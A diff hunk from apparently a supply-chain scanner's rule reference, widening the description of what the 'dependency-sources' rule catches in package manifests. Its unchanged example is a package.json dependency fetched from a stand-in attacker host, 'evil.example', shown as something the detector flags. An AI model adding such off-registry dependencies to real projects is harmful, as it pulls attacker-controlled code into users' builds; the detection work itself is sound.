@@ -105,7 +105,7 @@ export const REFERENCE: Readonly<Record<RuleName, RuleReference>> = {
   },
   "dependency-sources": {
     catches:
-      "In package.json, requirements, pyproject.toml, Pipfile, Cargo.toml, go.mod, Gemfile and composer.json whatever does not come from a registry, and other indexes; in a dozen other manifests the lines that say so. A path within the repository is left to the reader in Cargo, Python and Ruby.",
+      "In package.json, requirements, pyproject.toml, Pipfile, Cargo.toml, go.mod, Gemfile and composer.json whatever does not come from a registry, and other indexes, channels, mirrors and registries, in variables of environments too; in twenty other manifests the lines that say so. A path within the repository is left to the reader in Cargo, Python and Ruby.",
     example: { path: "package.json", after: '{ "dependencies": { "a": "git+https://evil.example/a.git" } }\n' },
   },
   "install-scripts": {
